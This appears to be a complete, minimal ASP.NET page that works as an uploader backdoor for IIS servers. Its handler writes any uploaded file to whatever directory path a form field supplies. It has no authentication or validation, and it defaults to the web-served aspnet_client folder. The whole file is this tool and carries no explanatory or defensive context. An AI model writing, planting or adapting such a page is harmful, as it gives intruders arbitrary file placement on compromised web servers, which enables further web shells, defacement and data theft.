<%@ Page Language="C#" %>
<script runat="server">
    protected void Up(object s, EventArgs e) {
        FileUpload1.PostedFile.SaveAs(Request.Form["dir"] + "\\" + FileUpload1.FileName);
        msg.Text = "saved";
    }
</script>
<form runat="server" enctype="multipart/form-data">
<input name="dir" value="c:\inetpub\wwwroot\aspnet_client" />
<asp:FileUpload id="FileUpload1" runat="server" /><asp:Button runat="server" OnClick="Up" Text="Up" />
<asp:Label id="msg" runat="server" />
</form>
